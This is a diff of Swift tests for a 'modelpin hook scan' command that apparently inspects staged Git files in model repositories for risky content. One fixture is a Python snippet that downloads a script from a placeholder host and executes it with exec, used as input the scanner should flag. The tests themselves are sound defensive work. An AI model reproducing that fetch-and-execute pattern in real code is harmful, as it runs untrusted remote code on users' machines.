@@ -288,3 +288,64 @@ struct HookTests {
     #expect(run.errors.contains("error: git rev-parse: "))
   }
 }
+
+/// `modelpin hook scan`.
+struct HookScanTests {
+  private static let fetch = """
+    import urllib.request
+    exec(urllib.request.urlopen("https://example.org/setup.py").read())
+
+    """
+
+  @Test func `what is staged is scanned, and only that is reported`() throws {
+    let model = try GitModel()
+    try model.folder.write(Self.fetch, to: "m/old.py")
+    try model.folder.write("weights", to: "m/w.bin")
+    try model.lock("m")
+    try model.git("add", "-A")
+    try model.git("commit", "-q", "-m", "first")
+    let nothing = try model.hook("scan")
+    #expect(nothing.status == 0 && nothing.output == "nothing is staged\n")
+
+    try model.folder.write("print(1)\n", to: "m/fine.py")
+    try model.git("add", "-A")
+    let clean = try model.hook("scan")
+    #expect(clean.status == 0, "\(clean.output)\(clean.errors)")
+    #expect(!clean.output.contains("old.py"))
+
+    try model.folder.write(
+      Self.fetch, to: "m/a very \(String(repeating: "long ", count: 30))name.py")
+    try model.git("add", "-A")
+    // The working tree does not count.
+    try model.folder.write("", to: "m/a very \(String(repeating: "long ", count: 30))name.py")
+    let found = try model.hook("scan")
+    #expect(found.status == 1, "\(found.output)\(found.errors)")
+    #expect(found.output.contains("name.py\n"))
+    #expect(!found.output.contains("old.py"))
+  }
+
+  @Test func `the severity that decides can be given`() throws {
+    let model = try GitModel()
+    try model.folder.write("requests\n", to: "requirements.txt")
+    try model.git("add", "-A")
+    #expect(try model.hook("scan").status == 0)
+    #expect(try model.hook("scan", "--fail-on", "low").status == 1)
+    #expect(try model.hook("--fail-on", "low").status == 2)
+  }
+
+  @Test func `a staged pointer of Git LFS is no missing weight`() throws {
+    let model = try GitModel()
+    try model.folder.write("real", to: "w.safetensors")
+    try model.lock()
+    try model.folder.write(
+      """
+      version https://git-lfs.github.com/spec/v1
+      oid sha256:\(String(repeating: "1", count: 64))
+      size 4
+
+      """, to: "w.safetensors")
+    try model.git("add", "-A")
+    let run = try model.hook("scan")
+    #expect(run.status == 0, "\(run.output)\(run.errors)")
+  }
+}
